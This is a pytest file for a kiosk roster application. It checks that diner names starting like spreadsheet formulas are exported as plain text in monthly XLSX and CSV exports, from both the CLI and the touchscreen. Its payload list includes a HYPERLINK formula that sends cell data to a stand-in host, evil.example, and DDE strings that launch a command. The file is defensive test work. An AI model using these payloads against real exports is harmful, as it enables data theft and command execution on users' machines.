"""Roster names that start like a formula reach every export as text (issue 12.14): the monthly
diner list as XLSX (string cells, no formula) and CSV (apostrophe-quoted), from the CLI and the
touchscreen alike."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from typer.testing import CliRunner

from kiosk.runtime.services import KioskServices
from models.db import Store
from models.roster import apply_rows
from tests.support.config import BASE_CONFIG
from tests.support.outbox import add_records
from tests.support.roster import TZ, elder_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_month(services: KioskServices, store: Store) -> tuple[int, int]:
    # After the services fixture's own roster, so these names are the ones stored.
    rows = [elder_row(i + 1, name=name, group=name) for i, name in enumerate(HOSTILE)]
    apply_rows(store, rows, dt.datetime(2026, 1, 1, tzinfo=TZ), "test")
    add_records(store, "dev", len(HOSTILE))  # one lunch each on 2026-01-01 (E0001..)
    return 2026, 1


def _assert_xlsx_has_no_formula(body: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet, "a live formula in the sheet"
    ws = load_workbook(io.BytesIO(body)).active
    assert ws is not None
    texts = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for name in HOSTILE:  # (XML stores a CR as LF: line ends are not what this is about)
        assert name.replace("\r", "\n") in texts, f"{name!r} not kept as text"
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _assert_csv_quoted(body: bytes) -> None:
    cells = [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"live cell {cell!r}"
    for name in HOSTILE:
        assert "'" + name in cells, f"{name!r} missing (quoted) from the CSV"


def test_cli_exports_neutralise_formulas(
    hostile_month: tuple[int, int], store: Store, tmp_path: Path
) -> None:
    from kiosk.cli.main import app as cli

    config = tmp_path / "config.yaml"
    config.write_text(BASE_CONFIG, encoding="utf-8")
    for fmt, check in (("xlsx", _assert_xlsx_has_no_formula), ("csv", _assert_csv_quoted)):
        out = tmp_path / f"m.{fmt}"
        result = CliRunner().invoke(
            cli,
            ["--config", str(config), "--data-dir", str(store.db_path.parent),
             "export", "monthly", "--month", "2026-01", "--format", fmt, "--out", str(out)],
        )  # fmt: skip
        assert result.exit_code == 0, result.output
        check(out.read_bytes())


def test_touchscreen_exports_neutralise_formulas(
    hostile_month: tuple[int, int], services: KioskServices, web: TestClient
) -> None:
    r = web.get("/notices/monthly.xlsx", params={"month": "2026-01"})
    assert r.status_code == 200, r.text
    _assert_xlsx_has_no_formula(r.content)
    r = web.get("/notices/monthly.csv", params={"month": "2026-01"})
    assert r.status_code == 200, r.text
    _assert_csv_quoted(r.content)
